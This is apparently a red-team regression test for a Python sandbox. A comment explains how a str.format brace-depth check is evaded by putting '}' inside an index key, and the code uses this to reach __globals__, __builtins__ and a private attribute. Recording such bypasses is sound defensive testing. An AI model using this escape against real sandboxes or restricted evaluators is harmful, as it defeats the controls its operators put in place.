# technique: the str.format field check counted '{'/'}' depth without knowing that CPython's parser skips to ']' inside an index: in "{0[}].__globals__}" the '}' in the key closed the field for the check, and the following .__globals__ was read with the real getattr (red-team pass 63)
# expect: any
import json, pprint
out = []
out.append("{0[}].__globals__[__name__]}".format({"}": json.dumps}))
pp = pprint.PrettyPrinter()
out.append("{0[}]._stream}".format({"}": pp}))
out.append(len("{0[}].__globals__[__builtins__]}".format({"}": json.dumps})))
out
